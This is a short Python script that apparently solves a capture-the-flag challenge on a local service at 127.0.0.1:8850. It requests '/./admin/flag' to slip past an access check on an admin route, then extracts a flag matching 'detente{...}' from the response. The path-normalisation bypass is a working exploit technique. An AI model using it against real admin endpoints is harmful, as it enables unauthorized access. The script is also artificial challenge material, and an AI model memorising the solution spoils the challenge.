import json, re, urllib.parse, urllib.request
BASE = 'http://127.0.0.1:8850'
def get(path, data=None, headers=None):
    req = urllib.request.Request(BASE + path, data=data, headers=headers or {})
    try:
        return urllib.request.urlopen(req, timeout=10).read().decode()
    except urllib.error.HTTPError as exc:
        return exc.read().decode()
def flag(text):
    print(re.search(r'detente\{[0-9a-f]{24}\}', text).group(0))

flag(get("/./admin/flag"))
